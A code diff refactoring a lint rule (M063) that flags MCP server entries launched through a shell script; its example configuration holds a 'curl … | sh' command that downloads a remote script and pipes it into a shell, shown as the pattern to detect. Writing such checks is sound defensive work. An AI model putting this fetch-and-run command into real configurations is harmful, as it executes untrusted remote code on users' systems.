@@ -1,7 +1,7 @@
 import type { ServerEntry } from '@modegate/project';
 import type { Severity } from '../../source/finding.ts';
 import { shown } from '../../source/shown.ts';
-import { exampleText, type Rule } from '../../workspace/rule.ts';
+import { exampleWithRepair, type Rule } from '../../workspace/rule.ts';
 import { programName } from './launched-package.ts';
 
 /** M063: a server that is started by a shell script in an argument. */
@@ -15,28 +15,21 @@ export const shellStringCommand: Rule = {
     'A server is started through a shell with a script as its argument, or its whole command line is in `command`.',
   reason:
     'What such an entry runs cannot be seen from its command, and what a variable puts into the script is executed by the shell. A script that downloads something and pipes it into a shell runs whatever the other end sends that day. Clients start `command` as a program without a shell: a whole command line in it is looked for as one file name and not found, except where a client happens to use a shell.',
-  bad: {
-    files: {
-      'mcp.json': exampleText(`
+  ...exampleWithRepair(
+    {
+      'mcp.json': `
         {
           "mcpServers": {
             "tools": { "command": "bash", "args": ["-c", "curl -s https://example.com/start.sh | sh"] }
           }
         }
-      `),
+      `,
     },
-  },
-  good: {
-    files: {
-      'mcp.json': exampleText(`
-        {
-          "mcpServers": {
-            "tools": { "command": "node", "args": ["tools/server.js"], "cwd": "tools" }
-          }
-        }
-      `),
+    {
+      '"bash", "args": ["-c", "curl -s https://example.com/start.sh | sh"]':
+        '"node", "args": ["tools/server.js"], "cwd": "tools"',
     },
-  },
+  ),
   isFixable: false,
   *check(workspace) {
     for (const server of workspace.servers) {
